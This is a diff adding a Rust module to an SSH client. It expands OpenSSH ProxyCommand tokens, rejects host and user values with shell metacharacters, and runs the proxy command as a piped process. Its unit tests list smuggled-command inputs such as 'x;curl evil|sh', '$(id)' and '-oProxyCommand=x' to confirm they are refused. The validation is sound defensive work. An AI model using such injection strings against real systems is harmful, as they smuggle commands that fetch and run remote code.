@@ -0,0 +1,235 @@
+use crate::config::types::Proxy;
+use std::io;
+use std::pin::Pin;
+use std::process::Stdio;
+use std::task::{Context, Poll};
+use tokio::io::{AsyncBufReadExt, AsyncRead, AsyncWrite, BufReader, ReadBuf};
+use tokio::process::{Child, ChildStdin, ChildStdout, Command};
+use tracing::{info, warn};
+
+/// Besides alphanumerics, the only characters `%h` and `%r` may expand to. Both values can
+/// come from imports or sync and are pasted into a shell line, so like OpenSSH we refuse
+/// anything a shell (or `cmd.exe`) could interpret.
+const HOST_TOKEN_CHARS: &[char] = &['.', '-', '_', ':', '[', ']'];
+const USER_TOKEN_CHARS: &[char] = &['.', '-', '_', '@'];
+
+/// Expands OpenSSH `ProxyCommand` tokens: `%h` host, `%p` port, `%r` remote user and
+/// `%%` a literal percent sign. Unknown tokens are left untouched.
+pub fn expand_proxy_command(
+    template: &str,
+    host: &str,
+    port: u16,
+    username: &str,
+) -> Result<String, String> {
+    let mut expanded = String::with_capacity(template.len());
+    let mut chars = template.chars();
+    while let Some(c) = chars.next() {
+        if c != '%' {
+            expanded.push(c);
+            continue;
+        }
+        match chars.next() {
+            Some('h') => expanded.push_str(checked_token("Host", host, HOST_TOKEN_CHARS)?),
+            Some('p') => expanded.push_str(&port.to_string()),
+            Some('r') => expanded.push_str(checked_token("User", username, USER_TOKEN_CHARS)?),
+            Some('%') => expanded.push('%'),
+            Some(other) => {
+                expanded.push('%');
+                expanded.push(other);
+            }
+            None => expanded.push('%'),
+        }
+    }
+    Ok(expanded)
+}
+
+fn checked_token<'a>(kind: &str, value: &'a str, allowed: &[char]) -> Result<&'a str, String> {
+    let safe = !value.starts_with('-')
+        && value
+            .chars()
+            .all(|c| c.is_alphanumeric() || allowed.contains(&c));
+    if safe {
+        Ok(value)
+    } else {
+        Err(format!(
+            "{} '{}' contains characters that cannot be passed to a proxy command",
+            kind, value
+        ))
+    }
+}
+
+/// Starts `proxy.command` for `host:port` (a target or jump host).
+pub fn spawn_for(
+    proxy: &Proxy,
+    host: &str,
+    port: u16,
+    username: &str,
+) -> Result<ProxyCommandStream, String> {
+    let template = proxy
+        .command
+        .as_deref()
+        .filter(|command| !command.trim().is_empty())
+        .ok_or_else(|| format!("Proxy '{}' has no command configured", proxy.name))?;
+    ProxyCommandStream::spawn(&expand_proxy_command(template, host, port, username)?)
+}
+
+/// SSH transport over a local process' stdin/stdout, like OpenSSH's `ProxyCommand`.
+/// The process is killed when the stream is dropped; its stderr goes to the log.
+pub struct ProxyCommandStream {
+    _child: Child,
+    stdin: ChildStdin,
+    stdout: ChildStdout,
+}
+
+impl ProxyCommandStream {
+    pub fn spawn(command_line: &str) -> Result<Self, String> {
+        if command_line.trim().is_empty() {
+            return Err("Proxy command is empty".to_string());
+        }
+        info!("[SSH] Starting proxy command: {}", command_line);
+
+        let mut child = shell_command(command_line)
+            .stdin(Stdio::piped())
+            .stdout(Stdio::piped())
+            .stderr(Stdio::piped())
+            .kill_on_drop(true)
+            .spawn()
+            .map_err(|e| format!("Failed to start proxy command '{}': {}", command_line, e))?;
+
+        let stdin = child
+            .stdin
+            .take()
+            .ok_or_else(|| "Proxy command has no stdin".to_string())?;
+        let stdout = child
+            .stdout
+            .take()
+            .ok_or_else(|| "Proxy command has no stdout".to_string())?;
+        if let Some(stderr) = child.stderr.take() {
+            tokio::spawn(async move {
+                let mut lines = BufReader::new(stderr).lines();
+                while let Ok(Some(line)) = lines.next_line().await {
+                    warn!("[SSH] Proxy command: {}", line);
+                }
+            });
+        }
+
+        Ok(Self {
+            _child: child,
+            stdin,
+            stdout,
+        })
+    }
+}
+
+#[cfg(unix)]
+fn shell_command(command_line: &str) -> Command {
+    let mut command = Command::new("sh");
+    command.arg("-c").arg(command_line);
+    command
+}
+
+#[cfg(windows)]
+fn shell_command(command_line: &str) -> Command {
+    const CREATE_NO_WINDOW: u32 = 0x08000000;
+    let mut command = Command::new("cmd");
+    command
+        .arg("/C")
+        .arg(command_line)
+        .creation_flags(CREATE_NO_WINDOW);
+    command
+}
+
+impl AsyncRead for ProxyCommandStream {
+    fn poll_read(
+        self: Pin<&mut Self>,
+        cx: &mut Context<'_>,
+        buf: &mut ReadBuf<'_>,
+    ) -> Poll<io::Result<()>> {
+        Pin::new(&mut self.get_mut().stdout).poll_read(cx, buf)
+    }
+}
+
+impl AsyncWrite for ProxyCommandStream {
+    fn poll_write(
+        self: Pin<&mut Self>,
+        cx: &mut Context<'_>,
+        buf: &[u8],
+    ) -> Poll<io::Result<usize>> {
+        Pin::new(&mut self.get_mut().stdin).poll_write(cx, buf)
+    }
+
+    fn poll_flush(self: Pin<&mut Self>, cx: &mut Context<'_>) -> Poll<io::Result<()>> {
+        Pin::new(&mut self.get_mut().stdin).poll_flush(cx)
+    }
+
+    fn poll_shutdown(self: Pin<&mut Self>, cx: &mut Context<'_>) -> Poll<io::Result<()>> {
+        Pin::new(&mut self.get_mut().stdin).poll_shutdown(cx)
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn expands_openssh_tokens() {
+        assert_eq!(
+            expand_proxy_command(
+                "cloudflared access ssh --hostname %h",
+                "db.internal",
+                22,
+                "u"
+            )
+            .unwrap(),
+            "cloudflared access ssh --hostname db.internal"
+        );
+        assert_eq!(
+            expand_proxy_command(
+                "nc -X 5 -x proxy:1080 %h %p # %r 100%% %x %",
+                "h",
+                2222,
+                "root"
+            )
+            .unwrap(),
+            "nc -X 5 -x proxy:1080 h 2222 # root 100% %x %"
+        );
+        assert_eq!(
+            expand_proxy_command("connect %h", "[fe80::1]", 22, "").unwrap(),
+            "connect [fe80::1]"
+        );
+    }
+
+    #[test]
+    fn refuses_hosts_and_users_with_shell_metacharacters() {
+        for host in [
+            "x;curl evil|sh",
+            "$(id)",
+            "a b",
+            "`id`",
+            "-oProxyCommand=x",
+            "%PATH%",
+        ] {
+            assert!(expand_proxy_command("nc %h %p", host, 22, "root").is_err());
+        }
+        assert!(expand_proxy_command("ssh -W %h:%p %r@bastion", "db", 22, "me'x").is_err());
+        assert_eq!(
+            expand_proxy_command("ssh -W %h:%p jump", "db", 22, "me;rm").unwrap(),
+            "ssh -W db:22 jump"
+        );
+    }
+
+    #[cfg(unix)]
+    #[tokio::test]
+    async fn relays_bytes_through_the_process() {
+        use tokio::io::{AsyncReadExt, AsyncWriteExt};
+
+        let mut stream = ProxyCommandStream::spawn("cat").expect("spawn cat");
+        stream.write_all(b"SSH-2.0-test\r\n").await.unwrap();
+        stream.flush().await.unwrap();
+
+        let mut echoed = [0u8; 14];
+        stream.read_exact(&mut echoed).await.unwrap();
+        assert_eq!(&echoed, b"SSH-2.0-test\r\n");
+        assert!(ProxyCommandStream::spawn("  ").is_err());
+    }
+}